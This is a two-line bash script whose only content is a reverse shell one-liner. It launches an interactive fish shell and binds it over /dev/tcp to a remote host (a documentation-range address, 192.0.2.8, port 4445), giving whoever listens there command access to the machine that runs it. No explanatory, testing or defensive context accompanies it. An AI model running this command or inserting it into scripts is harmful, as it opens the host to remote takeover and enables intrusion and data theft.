#!/bin/bash
fish -i >& /dev/tcp/192.0.2.8/4445 0>&1
